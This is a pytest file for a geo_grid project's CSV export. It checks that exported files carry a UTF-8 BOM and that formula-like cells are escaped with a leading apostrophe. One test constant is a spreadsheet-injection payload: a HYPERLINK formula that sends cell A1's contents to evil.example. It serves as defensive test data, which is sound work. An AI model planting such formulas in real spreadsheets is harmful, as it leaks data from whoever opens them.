"""Every CSV geo_grid writes goes through geo_grid/io/csvfile.py: a UTF-8 BOM (Excel, WPS) and formula-like
cells neutralised with a leading `'`; the project's own importers read such files back."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from geo_grid.io import csvfile
from geo_grid.io.reports import read_reports
from geo_grid.settings import SAMPLE_DIR
from tests.support.api import bearer, create_tokens
from tests.support.report_helpers import interior_point

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-1+2", "'-1+2"), ("@cmd", "'@cmd"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("-113.5", "-113.5"), ("+86", "+86"), ("1e-3", "1e-3"),
        ("民航路", "民航路"), ("a=b", "a=b"), (None, ""), (-3.5, -3.5), (True, True),
    ],
)  # fmt: skip
def test_safe_cell(value: Any, written: Any) -> None:
    assert csvfile.safe_cell(value) == written


def test_report_csv_export_has_bom_and_escaped_formulas(db_url: str, make_client: Callable[..., Any]) -> None:
    token = create_tokens(db_url)["dispatcher"]
    lon, lat = interior_point("410105012004003005")
    with make_client(db_url) as client:
        body = {"category": "noise", "channel": "hotline", "lon": lon, "lat": lat, "description": FORMULA}
        rid = client.post("/reports", json=body).json()["id"]
        for headers in ({}, bearer(token)):
            r = client.get("/reports", params={"format": "csv", "limit": 5}, headers=headers)
            assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")
            table = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
            mine = next(t for t in table if int(t["id"]) == rid)
            assert mine["description"] == "'" + FORMULA
            assert not any(v.startswith(("=", "+", "@")) for t in table for v in t.values())


def test_importer_reads_a_csv_with_bom(tmp_path: Path) -> None:
    with open(SAMPLE_DIR / "reports.csv", encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        rows = [next(reader) for _ in range(5)]
    path = tmp_path / "reports.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csvfile.write_rows(fh, header, rows)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    got = read_reports(path)
    assert [g.report.external_id for g in got] == [r[0] for r in rows]
